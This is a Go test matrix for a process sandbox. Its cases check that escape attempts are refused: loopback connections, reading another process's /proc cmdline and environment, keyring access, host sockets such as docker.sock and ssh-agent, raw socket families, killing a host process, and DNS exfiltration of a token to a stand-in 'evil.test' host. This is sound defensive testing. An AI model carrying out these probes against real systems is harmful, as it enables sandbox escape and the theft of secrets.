package matrix

import (
	"errors"
	"fmt"
	"net"

	"golang.org/x/sys/unix"
)

var reachCases = []Case{
	{"ST-12", "network none: 127.0.0.1 and ::1", "refused", in(development, func(w *world) {
		for _, host := range []string{"127.0.0.1", "::1"} {
			for _, network := range []string{"tcp", "udp"} {
				if e := w.ear(network, net.JoinHostPort(host, "0")); e != nil {
					w.refused(w.sends(network+" to "+host, network, e.address, e))
				}
			}
		}
	})},
	{"ST-19", "reach of the baseline: os_runtime_root; session bus, keyring, /proc of others, host Unix sockets", "only reading the os_runtime_root succeeds", in(readonly, func(w *world) {
		w.succeeds(
			probe{"read a system file", at("read", "/usr/bin/env"), reached, false},
			probe{"run a system program", at("exec", "/usr/bin/true"), reached, false},
		)
		w.refused(probe{"write below /usr", at("append", "/usr/bin/env", ""), func(_ *layout, o output) bool { return o.OK }, true},
			probe{"keyring", words("keyctl"), reached, false})
		if err := w.bystander(); err != nil {
			w.Block("a process of the host", "%v", err)
			return
		}
		w.real.Victim = w.twin.Victim
		w.refused(probe{"/proc of another process", func(l *layout) []string {
			return []string{"read", fmt.Sprintf("/proc/%d/cmdline", l.Victim)}
		}, func(l *layout, o output) bool { return contains(o.Detail, w.twin.Secret) }, false},
			probe{"environment of another process", func(l *layout) []string {
				return []string{"read", fmt.Sprintf("/proc/%d/environ", l.Victim)}
			}, func(l *layout, o output) bool { return o.OK && o.Detail != "" }, false})
		w.sockets()
	})},
}

// sockets tries socket files of the host: one beside the roots, as the session bus, and one inside a root.
func (w *world) sockets() {
	for _, place := range []string{"DIR", "W"} {
		for network, actions := range map[string][]string{"unix": {"unix"}, "unixgram": {"unix-datagram", "pair-datagram"}} {
			ears := map[*layout]*ear{}
			for _, l := range []*layout{w.real, w.twin} {
				path := l.path(place) + "/" + network + ".sock"
				if ears[l] = w.ear(network, path); ears[l] == nil {
					return
				}
				if err := unix.Chmod(path, 0o777); err != nil {
					w.Block(path, "%v", err)
				}
			}
			for _, action := range actions {
				w.refused(probe{action + " to a socket file in " + place, at(action, place+"/"+network+".sock", "TOKEN/"+action),
					func(l *layout, _ output) bool { return ears[l].has(w.ctx, l.Token+"/"+action) }, false})
			}
		}
	}
}

var attackNetworkCases = []Case{
	{"AC-43", "getaddrinfo and UDP as a way out", "no packet leaves", everyNetwork(func(w *world) {
		if e := w.ear("udp", "127.0.0.1:0"); e != nil {
			w.refused(w.sends("UDP to the loopback", "udp", e.address, e))
		}
		// Names of the host's hosts file and resolver are unknown inside.
		w.refused(probe{"the host's own address", words("interfaces"), func(_ *layout, o output) bool { return contains(o.Detail, "eth") || contains(o.Detail, "running") }, false})
		o := w.inside(w.real.Payload, "resolve", "secret.evil.test")
		w.Check("a name", !o.OK, "%v", o)
		// A name server of the host, asked by its address.
		if e := w.ear("udp", "127.0.0.1:0"); e != nil {
			w.refused(probe{"a name server", func(l *layout) []string { return []string{"dns", e.address, l.Token + ".evil.test"} }, func(l *layout, _ output) bool {
				return e.has(w.ctx, l.Token)
			}, false})
		}
	})},
	{"AC-44", "every loopback address in network none", "refused", in(development, func(w *world) {
		e := w.ear("tcp", "0.0.0.0:0")
		if e == nil {
			return
		}
		_, port, err := net.SplitHostPort(e.address)
		if err != nil {
			w.Block("port", "%v", err)
			return
		}
		for _, host := range []string{"127.0.0.1", "127.0.0.2", "0.0.0.0", "localhost"} {
			w.refused(w.sends("tcp to "+host, "tcp", net.JoinHostPort(host, port), e))
		}
	})},
	{"AC-48", "socket file in a root (docker.sock, ssh-agent, D-Bus)", "refused", everyNetwork((*world).sockets)},
	{"AC-50", "abstract socket of the host; signal to a host process", "not reachable", everyNetwork(func(w *world) {
		for network, action := range map[string]string{"unix": "unix", "unixgram": "unix-datagram"} {
			name := fmt.Sprintf("@sekisho-%s-%s", network, w.real.Token)
			if e := w.ear(network, name); e != nil {
				w.refused(w.sends("abstract "+network, action, name, e))
			}
		}
		if err := w.bystander(); err != nil {
			w.Block("a process of the host", "%v", err)
			return
		}
		// The same id means another process inside, so the real attempt comes first and the control ends the bystander.
		pid := fmt.Sprint(w.twin.Victim)
		dead := func() bool { return errors.Is(unix.Kill(w.twin.Victim, 0), unix.ESRCH) || zombie(w.twin.Victim) }
		o := w.inside(w.real.Payload, "kill", pid, "9")
		w.Check("kill a host process", !dead(), "it is gone: %v", o)
		if control := w.outside(w.twin.Payload, "kill", pid, "9"); !await(w.ctx, patience, dead) {
			w.Block("kill a host process", "the control: %v", control)
		}
	})},
	{"AC-51", "other socket families: vsock, packet, raw, alg, netlink netfilter", "refused", everyNetwork(func(w *world) {
		var probes []probe
		for _, s := range []struct {
			name                   string
			domain, kind, protocol int
		}{
			{"unix", unix.AF_UNIX, unix.SOCK_STREAM, 0}, {"unix datagram", unix.AF_UNIX, unix.SOCK_DGRAM, 0},
			{"vsock", unix.AF_VSOCK, unix.SOCK_STREAM, 0}, {"packet", unix.AF_PACKET, unix.SOCK_RAW, 0},
			{"raw", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP}, {"ping", unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP},
			{"alg", unix.AF_ALG, unix.SOCK_SEQPACKET, 0}, {"netfilter", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER},
			{"uevents", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_KOBJECT_UEVENT}, {"mptcp", unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP},
		} {
			probes = append(probes, probe{s.name, words("socket", fmt.Sprint(s.domain), fmt.Sprint(s.kind), fmt.Sprint(s.protocol)), reached, s.name != "unix"})
		}
		w.refused(probes...)
		w.succeeds(probe{"a connected pair works", words("pair-stream"), reached, false})
	})},
}
